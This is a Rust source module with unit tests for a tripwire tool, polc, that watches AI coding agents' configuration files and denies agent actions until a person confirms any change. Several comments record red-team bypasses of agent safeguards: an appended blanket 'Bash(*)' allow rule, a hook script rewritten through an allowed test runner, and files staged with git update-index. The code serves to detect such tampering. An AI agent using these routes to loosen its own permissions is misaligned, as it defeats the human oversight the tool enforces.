//! The "agent configuration changed" tripwire (docs/contract.md#c-self-protection).
//!
//! Self-protection stops the writes it can see; this catches what lands anyway (a blob
//! staged with `git update-index` and checked out, an archive extracted by code the agent
//! wrote, an edit from another program). On every hook call polc stats each host's project
//! configuration paths ([`WATCHED`]) under the call's project root(s) and compares them with
//! what it recorded for that root in the state folder (`<state>/agent-config/<sha256(root)>`,
//! one sealed record, see `runtime::state`). If one appeared, disappeared or changed, every
//! answer is deny until a person runs `polc confirm` on the terminal, which shows what
//! changed and records the new state; `polc init` records what it writes.
//!
//! **First sight.** The first call under a root records what is there (a person set the
//! project up before the agent ran). A record that cannot be read or does not check is a
//! deny, never "first sight".
//!
//! **Fingerprints.** A file is its `(inode, size, mtime, ctime)` plus a SHA-256 of its
//! content: when only the stat part differs (a checkout that rewrote the same bytes) the
//! content decides and the record's stat part is refreshed. `ctime` cannot be set by a
//! user, so an edit always reaches the content comparison. A folder is the sorted listing
//! of everything under it (name, type, size, mtime, ctime, inode). A folder with more than
//! [`MAX_ENTRIES`] entries, or nested deeper than [`MAX_DEPTH`] levels (a link loop), cannot
//! be compared whole, so it never reads as unchanged: every call reports it as too large to
//! watch (deny) until it is made smaller. (Bug fixed: past the bound the rest was skipped
//! and an edit there read as "unchanged".)
//!
//! **Claude's own writes.** When a person picks "don't ask again", Claude Code appends an
//! allow rule to `.claude/settings.local.json`. Entries *added* to that file's
//! `permissions.allow` are therefore not a change (the rest of the file, and removals, are).
//! polc cannot tell those additions from other writes to the file: direct writes to it are
//! self-protected and work-tree rewrites ask while it exists (residual, stated in the host
//! README).

use super::state;
use sha2::{Digest, Sha256};
use std::io::Read;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// Where the tripwire keeps its records: the state folder (one record per root) and the
/// config folder (the list of roots ever recorded, [`SEEN_FILE`]).
#[derive(Clone, Debug)]
pub struct Places {
    pub state: PathBuf,
    pub config: Option<PathBuf>,
}

impl Places {
    /// polc's fixed folders (`runtime::state`); `None` without a state folder.
    pub fn fixed() -> Option<Places> {
        Some(Places {
            state: super::state::state_dir()?,
            config: super::state::config_dir(),
        })
    }
}

/// Sub-folder of the state folder holding one record per project root.
pub const DIR: &str = "agent-config";

/// Each host's project configuration (files and dedicated folders), relative to the root.
pub const WATCHED: &[&str] = &[
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude/hooks",
    ".claude/commands",
    ".claude/agents",
    ".claude/skills",
    ".claude/output-styles",
    ".mcp.json",
    ".gemini/settings.json",
    ".gemini/policies",
    ".gemini/commands",
    ".gemini/extensions",
    ".github/hooks",
    ".github/agents",
    ".github/skills",
    ".agents",
    ".cursor/hooks.json",
    ".cursor/cli.json",
    ".cursor/mcp.json",
    ".codex",
    ".vscode/settings.json",
    ".vscode/mcp.json",
    ".vscode/tasks.json",
    ".factory/settings.json",
    ".factory/mcp.json",
    ".factory/hooks",
    ".factory/droids",
    ".vibe",
    ".opencode",
    "opencode.json",
    "opencode.jsonc",
    // Added after the first record format (named entries since `agentcfg2`: a name a record
    // lacks is recorded at the next call, not a change).
    ".factory/settings.local.json",
    ".factory/hooks.json",
    ".factory/skills",
    ".github/copilot",
    ".cursor/hooks",
    ".gemini/hooks",
];

/// The list the first record format (`agentcfg1`) held positionally: such a record is read
/// entry by entry against it (the first 31 names; later ones are appended after them).
const WATCHED_V1: &[&str] = WATCHED.split_at(31).0;

/// Names of the scripts the project configuration runs start with this (then the path,
/// relative to the root when under it): `@scripts/guard.sh`.
const SCRIPT: char = '@';
/// How many such scripts are watched; past it one entry that never compares equal stands
/// for the rest (every call denies until the list is shorter).
const MAX_SCRIPTS: usize = 32;
/// That entry's name.
const TOO_MANY_SCRIPTS: &str = "@(too many scripts to watch)";

/// A record: each watched name and its print.
type Prints = Vec<(String, Print)>;

/// The file whose `permissions.allow` additions are Claude's own ("don't ask again").
const CLAUDE_LOCAL: &str = ".claude/settings.local.json";
/// Folder walk bounds.
pub const MAX_ENTRIES: usize = 16_384;
pub const MAX_DEPTH: usize = 16;
/// Content read per file (agent configuration is small; the rest is covered by the size).
const MAX_READ: u64 = 1 << 20;
const TAG: &str = "agentcfg2";
const TAG_V1: &str = "agentcfg1";

/// What one watched path is now.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Print {
    Absent,
    /// Stat part, content hash, and (Claude's local settings) the hashes of its allow entries.
    File {
        stat: String,
        hash: String,
        allow: Vec<String>,
    },
    Dir(String),
    /// A folder past [`MAX_ENTRIES`] or [`MAX_DEPTH`]: never the same as anything.
    TooLarge,
    /// A lookup error other than "no such file" (its errno).
    Error(i32),
}

impl Print {
    fn encode(&self) -> String {
        match self {
            Print::Absent => "-".into(),
            Print::File { stat, hash, allow } => format!("f:{stat}:{hash}:{}", allow.join(",")),
            Print::Dir(h) => format!("d:{h}"),
            Print::TooLarge => "t".into(),
            Print::Error(e) => format!("e:{e}"),
        }
    }

    fn decode(s: &str) -> Option<Print> {
        if s == "-" {
            return Some(Print::Absent);
        }
        if s == "t" {
            return Some(Print::TooLarge);
        }
        if let Some(h) = s.strip_prefix("d:") {
            return Some(Print::Dir(h.into()));
        }
        if let Some(e) = s.strip_prefix("e:") {
            return e.parse().ok().map(Print::Error);
        }
        let mut it = s.strip_prefix("f:")?.splitn(3, ':');
        let (stat, hash, allow) = (it.next()?, it.next()?, it.next()?);
        Some(Print::File {
            stat: stat.into(),
            hash: hash.into(),
            allow: allow
                .split(',')
                .filter(|a| !a.is_empty())
                .map(String::from)
                .collect(),
        })
    }
}

/// One watched path that is not as recorded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Change {
    pub path: PathBuf,
    pub what: &'static str,
}

/// What a check found.
#[derive(Debug, PartialEq, Eq)]
pub enum Seen {
    /// As recorded (or recorded now, at first sight).
    Same,
    Changed(Vec<Change>),
}

fn hex(d: &[u8]) -> String {
    super::trust::hex(d)
}

fn stat_part(m: &std::fs::Metadata, link: Option<&std::fs::Metadata>) -> String {
    let l = link.map(|l| format!("{}.{}", l.ino(), l.ctime_nsec() + l.ctime() * 1_000_000_000));
    format!(
        "{}.{}.{}.{}{}",
        m.ino(),
        m.size(),
        m.mtime() as i128 * 1_000_000_000 + m.mtime_nsec() as i128,
        m.ctime() as i128 * 1_000_000_000 + m.ctime_nsec() as i128,
        l.map(|l| format!(".{l}")).unwrap_or_default()
    )
}

/// The fingerprint of `rel` under `root`; `known` is the recorded one, whose content hash
/// is reused when the stat part is unchanged (no read).
fn print(root: &Path, rel: &str, known: Option<&Print>) -> Print {
    let p = root.join(rel);
    let lm = match std::fs::symlink_metadata(&p) {
        Ok(m) => m,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Print::Absent,
        Err(e) => return Print::Error(e.raw_os_error().unwrap_or(-1)),
    };
    let link = lm.file_type().is_symlink();
    let m = if link {
        match std::fs::metadata(&p) {
            Ok(m) => m,
            // A dangling link: its target text is what it is.
            Err(_) => {
                let t = std::fs::read_link(&p).unwrap_or_default();
                return Print::Dir(hex(&Sha256::digest(t.as_os_str().as_encoded_bytes())));
            }
        }
    } else {
        lm.clone()
    };
    if m.is_dir() {
        return listing(&p, link.then(|| std::fs::read_link(&p).ok()).flatten())
            .map_or(Print::TooLarge, Print::Dir);
    }
    let stat = stat_part(&m, link.then_some(&lm));
    if let Some(Print::File {
        stat: s,
        hash,
        allow,
    }) = known
    {
        if *s == stat {
            return Print::File {
                stat,
                hash: hash.clone(),
                allow: allow.clone(),
            };
        }
    }
    let mut bytes = Vec::new();
    let read = std::fs::File::open(&p).and_then(|f| f.take(MAX_READ).read_to_end(&mut bytes));
    if let Err(e) = read {
        return Print::Error(e.raw_os_error().unwrap_or(-1));
    }
    let mut h = Sha256::new();
    if link {
        if let Ok(t) = std::fs::read_link(&p) {
            h.update(t.as_os_str().as_encoded_bytes());
            h.update([0]);
        }
    }
    if m.size() > MAX_READ {
        // Past what is read, the size stands for the rest.
        h.update(m.size().to_le_bytes());
    }
    let allow = if rel == CLAUDE_LOCAL {
        split_allow(&bytes)
    } else {
        None
    };
    let allow = match allow {
        Some((rest, allow)) => {
            h.update(rest.as_bytes());
            allow
        }
        None => {
            h.update(&bytes);
            Vec::new()
        }
    };
    Print::File {
        stat,
        hash: hex(&h.finalize()[..16]),
        allow,
    }
}

/// Claude's local settings without `permissions.allow`, and that list's entries hashed
/// (sorted, unique). `None` when the file is not a JSON object of that shape, repeats a key
/// (a reader that keeps the first would see another file than the one reviewed), or an
/// entry is not a rule of a shape Claude Code itself writes ([`claude_writes`]): Claude
/// ignores a whole settings file with one invalid rule, hooks and denies included, so such
/// an "addition" is a change.
fn split_allow(bytes: &[u8]) -> Option<(String, Vec<String>)> {
    let mut v: serde_json::Value = serde_json::from_slice(bytes).ok()?;
    if has_duplicate_keys(bytes) {
        return None;
    }
    let list = v
        .as_object_mut()?
        .get_mut("permissions")?
        .as_object_mut()?
        .remove("allow")?;
    let list = list.as_array()?;
    if list.len() > 512 || !list.iter().all(|e| e.as_str().is_some_and(claude_writes)) {
        return None;
    }
    let mut allow: Vec<String> = list
        .iter()
        .map(|e| hex(&Sha256::digest(e.to_string().as_bytes())[..8]))
        .collect();
    allow.sort();
    allow.dedup();
    Some((v.to_string(), allow))
}

/// Is `rule` of a shape Claude Code writes when a person picks "don't ask again" (and one
/// its settings validator accepts)? Deliberately narrower than what Claude accepts:
/// `Bash(…)` (a `:*` only at the end), `Read(…)`/`Edit(…)`/`Write(…)` (no `:*`),
/// `WebFetch(domain:…)` (no wildcard), a bare built-in tool name, `mcp__server[__tool]`.
/// Parentheses inside must balance and none may be empty.
fn claude_writes(rule: &str) -> bool {
    // A rule Claude's validator rejects is never one Claude wrote (bug fixed: `Read(.env .*
    // )`, which Claude rejects, was tolerated, and Claude then ignored the whole file with
    // its hooks and denies); nor is one with control characters.
    if crate::claude_validator::claude_rejects(rule).is_some() || rule.chars().any(char::is_control)
    {
        return false;
    }
    let plain = |s: &str, extra: &str| {
        !s.is_empty()
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-' || extra.contains(c))
    };
    // Claude's answer to one prompt names one tool, command prefix, path or domain: a
    // blanket rule (`Bash`, `Bash(*)`, `Write`, `Edit(//**)`, `WebFetch`, `mcp__x__*`) is
    // not one it writes (red team, session 5: appending `Bash(*)` went unnoticed).
    if let Some(rest) = rule.strip_prefix("mcp__") {
        let mut parts = rest.splitn(2, "__");
        return parts.next().is_some_and(|s| plain(s, ""))
            && parts.next().is_none_or(|t| plain(t, ""));
    }
    let Some((tool, inner)) = rule.split_once('(') else {
        return matches!(rule, "WebSearch" | "Glob" | "Grep");
    };
    let Some(inner) = inner.strip_suffix(')') else {
        return false;
    };
    let mut depth = 0i32;
    let mut prev_open = false;
    let mut escaped = false;
    for c in inner.chars() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '(' => depth += 1,
            ')' if prev_open => return false,
            ')' => depth -= 1,
            _ => {}
        }
        prev_open = c == '(' && !escaped;
        if depth < 0 {
            return false;
        }
    }
    if depth != 0 || inner.trim().is_empty() || escaped {
        return false;
    }
    match tool {
        "Bash" => {
            let prefix = inner.strip_suffix(":*").unwrap_or(inner);
            let first = prefix.split_whitespace().next().unwrap_or("");
            !prefix.contains(":*")
                && !prefix.contains('*')
                && !prefix.trim().is_empty()
                && first.rsplit('/').next() != Some("polc")
        }
        "Read" | "Edit" | "Write" => {
            !inner.contains(":*")
                && inner
                    .split('/')
                    .any(|c| !matches!(c, "" | "*" | "**" | "." | "~" | ".."))
        }
        "WebFetch" => inner.strip_prefix("domain:").is_some_and(|d| plain(d, ".")),
        _ => false,
    }
}

/// Does this JSON text repeat a key inside one object? (`serde_json` keeps the last.)
fn has_duplicate_keys(bytes: &[u8]) -> bool {
    use serde::de::{Deserialize, Deserializer, IgnoredAny, MapAccess, SeqAccess, Visitor};
    struct Check;
    impl<'de> Deserialize<'de> for Check {
        fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Check, D::Error> {
            d.deserialize_any(Check)
        }
    }
    impl<'de> Visitor<'de> for Check {
        type Value = Check;
        fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            f.write_str("JSON")
        }
        fn visit_map<A: MapAccess<'de>>(self, mut m: A) -> Result<Check, A::Error> {
            let mut seen = std::collections::HashSet::new();
            while let Some(k) = m.next_key::<String>()? {
                if !seen.insert(k) {
                    return Err(serde::de::Error::custom("duplicate key"));
                }
                m.next_value::<Check>()?;
            }
            Ok(Check)
        }
        fn visit_seq<A: SeqAccess<'de>>(self, mut s: A) -> Result<Check, A::Error> {
            while s.next_element::<Check>()?.is_some() {}
            Ok(Check)
        }
        fn visit_bool<E>(self, _: bool) -> Result<Check, E> {
            Ok(Check)
        }
        fn visit_i64<E>(self, _: i64) -> Result<Check, E> {
            Ok(Check)
        }
        fn visit_u64<E>(self, _: u64) -> Result<Check, E> {
            Ok(Check)
        }
        fn visit_f64<E>(self, _: f64) -> Result<Check, E> {
            Ok(Check)
        }
        fn visit_str<E>(self, _: &str) -> Result<Check, E> {
            Ok(Check)
        }
        fn visit_unit<E>(self) -> Result<Check, E> {
            Ok(Check)
        }
    }
    let _ = IgnoredAny;
    serde_json::from_slice::<Check>(bytes).is_err()
}

/// A folder's listing hash (see the module notes); `None` past [`MAX_ENTRIES`] or
/// [`MAX_DEPTH`].
fn listing(dir: &Path, target: Option<PathBuf>) -> Option<String> {
    let mut h = Sha256::new();
    if let Some(t) = target {
        h.update(t.as_os_str().as_encoded_bytes());
        h.update([0]);
    }
    let mut rows = Vec::new();
    let mut stack = vec![(dir.to_path_buf(), 0usize)];
    while let Some((d, depth)) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            rows.push(format!("{}\tunreadable", d.display()));
            continue;
        };
        for e in rd.flatten() {
            if rows.len() >= MAX_ENTRIES {
                return None;
            }
            let p = e.path();
            let Ok(m) = std::fs::symlink_metadata(&p) else {
                continue;
            };
            let rel = p.strip_prefix(dir).unwrap_or(&p).display().to_string();
            let kind = if m.is_dir() {
                'd'
            } else if m.file_type().is_symlink() {
                'l'
            } else {
                'f'
            };
            // A link's target is what the agent reads (a shared skills folder linked in):
            // its text, and the stat of what it points at, so an edit there is a change.
            let (extra, target) = if kind == 'l' {
                let text = std::fs::read_link(&p)
                    .map(|t| t.display().to_string())
                    .unwrap_or_default();
                let t = std::fs::metadata(&p).ok();
                let st = t.as_ref().map(|t| stat_part(t, None)).unwrap_or_default();
                (format!("{text}\t{st}"), t)
            } else {
                (String::new(), None)
            };
            rows.push(format!("{rel}\t{kind}\t{}\t{extra}", stat_part(&m, None)));
            let into = kind == 'd' || target.as_ref().is_some_and(|t| t.is_dir());
            if into {
                if depth + 1 >= MAX_DEPTH {
                    return None;
                }
                stack.push((p, depth + 1));
            }
        }
    }
    rows.sort();
    for r in &rows {
        h.update(r.as_bytes());
        h.update([b'\n']);
    }
    Some(hex(&h.finalize()[..16]))
}

fn record_name(root: &Path) -> String {
    state::name_of(&[root.as_os_str().as_encoded_bytes()])
}

/// The recorded fingerprints of `root`: `Ok(None)` when there is no record.
fn read(state_dir: &Path, root: &Path) -> Result<Option<Prints>, RecordError> {
    let p = state_dir.join(DIR).join(record_name(root));
    let damaged = || RecordError::Damaged(p.clone());
    let text = match state::read_record(&p) {
        Ok(None) => return Ok(None),
        Ok(Some((t, _))) => t,
        Err(e) => {
            return Err(RecordError::Unreadable {
                record: p.clone(),
                error: e.to_string(),
            })
        }
    };
    let f = state::unseal(&text).ok_or_else(damaged)?;
    if f.len() < 2 || Path::new(f[1]) != root {
        return Err(damaged());
    }
    let named: Vec<(&str, &str)> = match f[0] {
        TAG_V1 if f.len() == 2 + WATCHED_V1.len() => WATCHED_V1
            .iter()
            .copied()
            .zip(f[2..].iter().copied())
            .collect(),
        TAG if f.len() % 2 == 0 => f[2..].chunks(2).map(|c| (c[0], c[1])).collect(),
        _ => return Err(damaged()),
    };
    named
        .into_iter()
        .map(|(n, s)| Ok((n.to_string(), Print::decode(s).ok_or_else(damaged)?)))
        .collect::<Result<Vec<_>, _>>()
        .map(Some)
}

fn write(state_dir: &Path, root: &Path, prints: &Prints) -> std::io::Result<()> {
    let dir = state_dir.join(DIR);
    state::ensure_dir(&dir)?;
    let clean = |s: &str| !s.contains(['\t', '\n']);
    let r = root
        .to_str()
        .filter(|r| clean(r))
        .ok_or_else(|| std::io::Error::other("root is not UTF-8 or holds a tab or newline"))?;
    let enc: Vec<String> = prints.iter().map(|(_, p)| p.encode()).collect();
    let mut fields = vec![TAG, r];
    for ((name, _), e) in prints.iter().zip(&enc) {
        // Names are the fixed list's and scripts filtered by `script_names`.
        debug_assert!(clean(name));
        fields.push(name);
        fields.push(e);
    }
    state::replace_record(&dir, &record_name(root), &state::seal(&fields))
}

/// The names to watch under `root`: the fixed list, then the scripts the project
/// configuration runs. Those come from the record while it holds every fixed name (the
/// configuration that names them is watched: a change to it trips, and `polc confirm`
/// records the list again); at first sight, and after an upgrade that added fixed names,
/// the configuration is read for them.
fn names(root: &Path, old: Option<&Prints>) -> Vec<String> {
    let mut v: Vec<String> = WATCHED.iter().map(|w| w.to_string()).collect();
    // Records are written in this order, so a current record starts with the fixed list.
    let complete =
        old.filter(|o| o.len() >= WATCHED.len() && o.iter().zip(WATCHED).all(|((n, _), w)| n == w));
    match complete {
        Some(o) => v.extend(
            o.iter()
                .filter(|(n, _)| n.starts_with(SCRIPT))
                .map(|(n, _)| n.clone()),
        ),
        None => v.extend(script_names(root)),
    }
    v
}

/// The scripts (not their arguments) the project's agent configuration runs, as record
/// names (red team, session 6: a hook script rewritten by code an allowed test runner ran
/// was not noticed). Scripts inside a watched path are watched with it; a folder, the root
/// or an ancestor of it is not a script (its listing changes with any work).
fn script_names(root: &Path) -> Vec<String> {
    let (found, _) = crate::runtime::protect::referenced_scripts(root, &[]);
    let mut out: Vec<String> = found
        .into_iter()
        .filter(|(p, ask)| !ask && !root.starts_with(p))
        .filter(|(p, _)| std::fs::metadata(p).map_or(true, |m| !m.is_dir()))
        .filter_map(|(p, _)| {
            // `a/./b` is `a/b` (a word relative to the configuration file's folder).
            let p: PathBuf = p.components().collect();
            let rel = p.strip_prefix(root).map_or(p.clone(), Path::to_path_buf);
            let rel = rel.to_str()?.to_string();
            let inside = WATCHED.iter().any(|w| Path::new(&rel).starts_with(w));
            (!rel.is_empty() && !rel.contains(['\t', '\n']) && !inside)
                .then(|| format!("{SCRIPT}{rel}"))
        })
        .collect();
    out.sort();
    out.dedup();
    if out.len() > MAX_SCRIPTS {
        out.truncate(MAX_SCRIPTS);
        out.push(TOO_MANY_SCRIPTS.to_string());
    }
    out
}

/// The path a record name stands for (a script's may be absolute: `join` keeps it).
fn path_of(root: &Path, name: &str) -> PathBuf {
    root.join(name.strip_prefix(SCRIPT).unwrap_or(name))
}

fn now(root: &Path, known: Option<&Prints>) -> Prints {
    // Most watched paths sit in a few folders (`.claude/`, `.gemini/`, `.github/`, …) that
    // a project mostly lacks: one `lstat` of an absent folder answers for everything under
    // it (a lookup under a missing component is "no such file" too, so the prints are the
    // ones `print` would give). 37 `lstat`s become 13 when none exists (each a system call,
    // microseconds on a VM, on every hook call). Only "no such file" is taken as absent: a
    // folder that is a link, a file or unreadable is looked into path by path as before.
    let mut absent: Vec<(String, bool)> = Vec::new();
    let mut probe = Probe::new(root);
    // The record's entry for a name: at the same place when the lists agree (the usual
    // case: no search on the hook path), else found by name.
    let known_of = |i: usize, n: &str| {
        let k = known?;
        match k.get(i) {
            Some((m, p)) if m == n => Some(p),
            _ => k.iter().find(|(m, _)| m == n).map(|(_, p)| p),
        }
    };
    names(root, known)
        .into_iter()
        .enumerate()
        .map(|(i, name)| {
            if name == TOO_MANY_SCRIPTS {
                return (name, Print::TooLarge);
            }
            if let Some(rel) = name.strip_prefix(SCRIPT) {
                let p = print(root, rel, known_of(i, &name));
                return (name, p);
            }
            let top = name.split_once('/').map_or(name.as_str(), |(t, _)| t);
            let gone = match absent.iter().find(|(t, _)| t == top) {
                Some(&(_, g)) => g,
                None => {
                    let g = probe.not_found(top);
                    absent.push((top.to_string(), g));
                    g
                }
            };
            let p = if gone {
                Print::Absent
            } else {
                print(root, &name, known_of(i, &name))
            };
            (name, p)
        })
        .collect()
}

/// `lstat`s of names under one root through one reused buffer: only whether the lookup
/// failed with "no such file". (`std::fs::symlink_metadata(root.join(name))` allocated and
/// grew a path and built a `Metadata` for each: ~1,600 instructions a path, 13 to 31 paths
/// on every hook call.)
struct Probe {
    /// The root and a separator, as `Path::join` would put them (`None`: a root with a NUL
    /// byte, which no lookup can name).
    buf: Option<Vec<u8>>,
    base: usize,
}

impl Probe {
    fn new(root: &Path) -> Probe {
        use std::os::unix::ffi::OsStrExt;
        let r = root.as_os_str().as_bytes();
        if r.contains(&0) {
            return Probe { buf: None, base: 0 };
        }
        let mut buf = Vec::with_capacity(r.len() + 64);
        buf.extend_from_slice(r);
        // `Path::join`: no separator after an empty root or one ending in `/`.
        if !r.is_empty() && !r.ends_with(b"/") {
            buf.push(b'/');
        }
        let base = buf.len();
        Probe {
            buf: Some(buf),
            base,
        }
    }

    /// Does `lstat(root/name)` fail with ENOENT? Anything else (found, another error, a
    /// name with a NUL byte) is false: the caller then looks at the path itself.
    fn not_found(&mut self, name: &str) -> bool {
        let Some(buf) = self.buf.as_mut() else {
            return false;
        };
        if name.as_bytes().contains(&0) {
            return false;
        }
        buf.truncate(self.base);
        buf.extend_from_slice(name.as_bytes());
        buf.push(0);
        // SAFETY: `buf` is NUL-terminated with no other NUL (checked above); `st` is a
        // plain output struct that lstat fills.
        let rc = unsafe {
            let mut st: libc::stat = std::mem::zeroed();
            libc::lstat(buf.as_ptr().cast(), &mut st)
        };
        rc != 0 && std::io::Error::last_os_error().raw_os_error() == Some(libc::ENOENT)
    }
}

/// Is `new` the same as `old` for the tripwire? (Same content; Claude's local allow list
/// only grew.)
fn same(old: &Print, new: &Print) -> bool {
    match (old, new) {
        (
            Print::File {
                hash: a, allow: x, ..
            },
            Print::File {
                hash: b, allow: y, ..
            },
        ) => a == b && x.iter().all(|e| y.binary_search(e).is_ok()),
        // What cannot be compared whole is never the same.
        (Print::TooLarge, _) | (_, Print::TooLarge) => false,
        _ => old == new,
    }
}

/// What differs between a record and now. A name the record lacks (added to the fixed list
/// by an upgrade, or a script listed since) is not a change: it is recorded at this call.
fn changes(root: &Path, old: &Prints, new: &Prints) -> Vec<Change> {
    new.iter()
        .enumerate()
        .filter_map(|(i, (name, n))| {
            let (_, o) = match old.get(i) {
                Some(e) if e.0 == *name => e,
                _ => old.iter().find(|(k, _)| k == name)?,
            };
            (!same(o, n)).then(|| Change {
                path: path_of(root, name),
                what: match (o, n) {
                    (Print::Absent, _) => "appeared",
                    (_, Print::Absent) => "disappeared",
                    (_, Print::TooLarge) => "is too large to watch (make it smaller)",
                    _ => "changed",
                },
            })
        })
        .collect()
}

/// Compare `root`'s agent configuration with the record. At first sight, records it.
/// `Err` when the record cannot be read or does not check (the caller denies).
pub fn check(at: &Places, root: &Path) -> Result<Seen, RecordError> {
    let state_dir = at.state.as_path();
    let old = read(state_dir, root)?;
    let Some(old) = old else {
        // A root polc has seen before (listed in the config folder when first recorded)
        // without a record lost it, deleted by a program the policy let run: not first
        // sight. (A second folder, so one deletion is not enough.)
        if seen_before(at, root) {
            return Err(RecordError::Missing(root.to_path_buf()));
        }
        // First sight: best effort (the next call tries again if this fails).
        if write(state_dir, root, &now(root, None)).is_ok() {
            mark_seen(at, root);
        }
        return Ok(Seen::Same);
    };
    let new = now(root, Some(&old));
    let ch = changes(root, &old, &new);
    if !ch.is_empty() {
        return Ok(Seen::Changed(ch));
    }
    if new != old {
        // Only stat parts or Claude's allow additions moved: remember them, so the next
        // call need not read the content again.
        let _ = write(state_dir, root, &new);
    }
    Ok(Seen::Same)
}

/// What changed since the record (for `polc confirm`): empty when nothing did or there is
/// no record yet (the second element says whether a record exists).
pub fn pending(at: &Places, root: &Path) -> (Vec<Change>, bool) {
    let state_dir = at.state.as_path();
    match read(state_dir, root) {
        Ok(Some(old)) => (changes(root, &old, &now(root, Some(&old))), true),
        Ok(None) => (Vec::new(), false),
        // A damaged record: everything present is to be reviewed.
        Err(_) => (
            {
                let new = now(root, None);
                let none = new
                    .iter()
                    .map(|(n, _)| (n.clone(), Print::Absent))
                    .collect();
                changes(root, &none, &new)
            },
            true,
        ),
    }
}

/// Why the record of a root's agent configuration cannot be used (the hook denies until a
/// person confirms): the record or root concerned.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum RecordError {
    /// No record of a root polc recorded before (listed in [`SEEN_FILE`]): it was deleted.
    Missing(PathBuf),
    Unreadable {
        record: PathBuf,
        error: String,
    },
    /// The seal, tag, root or a print does not check.
    Damaged(PathBuf),
}

impl std::fmt::Display for RecordError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            RecordError::Missing(root) => write!(
                f,
                "polc's record of the agent configuration of {} is missing although polc recorded it before",
                root.display()
            ),
            RecordError::Unreadable { record, error } => {
                write!(f, "polc's record {} cannot be read: {error}", record.display())
            }
            RecordError::Damaged(p) => write!(f, "polc's record {} is damaged", p.display()),
        }
    }
}

impl std::error::Error for RecordError {}

/// Record `root`'s agent configuration as it is now (a person confirmed, or `polc init`
/// wrote it).
pub fn record(at: &Places, root: &Path) -> std::io::Result<()> {
    write(&at.state, root, &now(root, None))?;
    mark_seen(at, root);
    Ok(())
}

/// Record `root`'s agent configuration unless a record exists (`polc trust`: the person at
/// the terminal set the project up; pending changes still wait for `polc confirm`).
/// Whether it recorded.
pub fn record_if_absent(at: &Places, root: &Path) -> std::io::Result<bool> {
    match read(&at.state, root) {
        Ok(None) => record(at, root).map(|_| true),
        _ => Ok(false),
    }
}

/// The list of roots whose agent configuration polc has recorded, in the config folder.
pub const SEEN_FILE: &str = "agent-config-roots";

fn seen_before(at: &Places, root: &Path) -> bool {
    let Some(cfg) = &at.config else {
        return false;
    };
    let Ok(text) = std::fs::read_to_string(cfg.join(SEEN_FILE)) else {
        return false;
    };
    text.lines().any(|l| Path::new(l) == root)
}

fn mark_seen(at: &Places, root: &Path) {
    use std::io::Write;
    use std::os::unix::fs::OpenOptionsExt;
    let (Some(cfg), Some(r)) = (&at.config, root.to_str()) else {
        return;
    };
    if r.contains('\n') || seen_before(at, root) || super::state::ensure_dir(cfg).is_err() {
        return;
    }
    // One short line with O_APPEND: concurrent first calls never interleave.
    if let Ok(mut f) = std::fs::OpenOptions::new()
        .append(true)
        .create(true)
        .mode(0o600)
        .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
        .open(cfg.join(SEEN_FILE))
    {
        let _ = f.write_all(format!("{r}\n").as_bytes());
    }
}

/// Record only the watched entries that hold `written` (what `polc init` just wrote, with
/// the person's yes), leaving every other entry as recorded: a change the person has not
/// reviewed still trips. With no usable record, the whole configuration is recorded (first
/// sight).
pub fn record_written(at: &Places, root: &Path, written: &Path) -> std::io::Result<()> {
    let Ok(Some(mut old)) = read(&at.state, root) else {
        return record(at, root);
    };
    for (name, p) in old.iter_mut() {
        if written.starts_with(path_of(root, name)) {
            *p = print(root, name.strip_prefix(SCRIPT).unwrap_or(name), None);
        }
    }
    write(&at.state, root, &old)
}

/// The hook's deny reason when some root's agent configuration changed or its record is
/// unusable; `None` otherwise (also when there is no state folder: nothing to compare).
pub fn verdict(at: Option<&Places>, roots: &[&Path]) -> Option<String> {
    let at = at?;
    for root in roots {
        // Keyed by the canonical root, as `polc confirm` names it.
        let root = &super::trust::canon(root);
        match check(at, root) {
            Ok(Seen::Same) => {}
            Ok(Seen::Changed(ch)) => {
                let list: Vec<String> = ch
                    .iter()
                    .take(4)
                    .map(|c| format!("{} {}", c.path.display(), c.what))
                    .collect();
                let more = if ch.len() > 4 {
                    format!(" and {} more", ch.len() - 4)
                } else {
                    String::new()
                };
                return Some(format!(
                    "polc deny: agent configuration changed ({}{more}): review it, then confirm with `polc confirm {}` on the terminal",
                    list.join(", "),
                    root.display()
                ));
            }
            Err(why) => {
                return Some(format!(
                    "polc deny: {why}: review the agent configuration of {0}, then confirm with `polc confirm {0}` on the terminal",
                    root.display()
                ))
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The fixed list's prints of a record, in order.
    fn fixed(p: Prints) -> Vec<Print> {
        p.into_iter().take(WATCHED.len()).map(|(_, p)| p).collect()
    }

    fn setup() -> (tempfile::TempDir, PathBuf, Places) {
        let t = tempfile::tempdir().unwrap();
        let root = t.path().join("proj");
        let st = Places {
            state: t.path().join("state"),
            config: Some(t.path().join("cfg")),
        };
        std::fs::create_dir_all(&root).unwrap();
        (t, root, st)
    }

    #[test]
    fn first_sight_records_then_changes_trip() {
        let (_t, root, st) = setup();
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        std::fs::write(root.join(".claude/settings.json"), "{}").unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::write(root.join(".claude/settings.json"), r#"{"hooks":{}}"#).unwrap();
        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
            panic!("an edit must trip")
        };
        assert_eq!(ch[0].what, "changed");
        // It stays tripped until recorded again.
        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
        record(&st, &root).unwrap();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
    }

    #[test]
    fn appearing_and_disappearing_files_and_folders_trip() {
        let (_t, root, st) = setup();
        assert_eq!(check(&st, &root), Ok(Seen::Same));
        std::fs::create_dir_all(root.join(".github/hooks")).unwrap();
